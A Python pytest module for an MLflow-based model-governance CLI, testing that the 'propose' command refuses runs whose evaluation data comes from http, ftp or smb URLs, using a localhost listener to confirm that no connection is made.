def sources_model(world: World, released: Released) -> tuple[Cli, str]:
    cli = world.govern(SOURCES)
    experiment = world.experiment_id(SOURCES)
    for kind, name in (
        ("registered_model", SOURCES),
        ("registered_model", f"{SOURCES}{LOG_SUFFIX}"),
        ("experiment", experiment),
    ):
        world.grant("carol", kind, name, "EDIT")
    return cli, experiment


@contextmanager
def listener() -> Iterator[tuple[int, list[str]]]:
    """A TCP port on 127.0.0.1 that records every connection (and its first bytes)."""
    seen: list[str] = []
    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    sock.listen(8)
    sock.settimeout(0.2)
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = sock.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(0.5)
                try:
                    seen.append(conn.recv(200).decode("latin-1") or "(connected)")
                except OSError:
                    seen.append("(connected)")

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        yield int(sock.getsockname()[1]), seen
    finally:
        stop.set()
        thread.join(timeout=5)
        sock.close()


@pytest.mark.parametrize("protocol", ["http", "ftp", "smb"])
def test_propose_reads_evaluation_rows_only_over_allowed_protocols(
    world: World, released: Released, sources_model: tuple[Cli, str], protocol: str
) -> None:
    """carol logs a team run (plain MLflow: a skops model, one evaluation input) whose
    evaluation source is an http/ftp/smb URL. The policy's [residency] allows none of them:
    propose must refuse (exit 3) without connecting anywhere."""
    cli, experiment = sources_model
    carol = world.as_("carol")
    with listener() as (port, seen):
        url = f"{protocol}://127.0.0.1:{port}/share/evaluation.parquet"
        run_id = team_run(carol, experiment)
        copy_model(carol, released.runs["good"], run_id)
        source = {"url": url} if protocol == "http" else {"uri": url}
        carol.ok(
            "POST",
            f"{API}/runs/log-inputs",
            body={
                "run_id": run_id,
                "datasets": [
                    {
                        "dataset": {
                            "name": "evaluation",
                            # MLflow keeps one dataset per (experiment, name, digest)
                            "digest": sha256_text(url)[:8],
                            "source_type": protocol,
                            "source": json.dumps(source),
                        },
                        "tags": [{"key": "mlflow.data.context", "value": "evaluation"}],
                    }
                ],
            },
        )
        finish(carol, run_id)
        result = run(cli, "propose", run_id, "--json", by="carol")
    assert not seen, f"propose connected to {url}: {seen[:1]}"
    assert result.exit_code == 3, (
        f"propose of a run reading {url} exited {result.exit_code}: "
        f"{_failed_gates(result) or result.stderr.strip()[-300:]}"
    )


def _failed_gates(result: Result) -> str:
    try:
        gates = json.loads(result.stdout).get("gates", [])
    except ValueError:
        return ""
    return "; ".join(f"{g['name']}: {g['detail']}" for g in gates if not g["passed"])[:400]
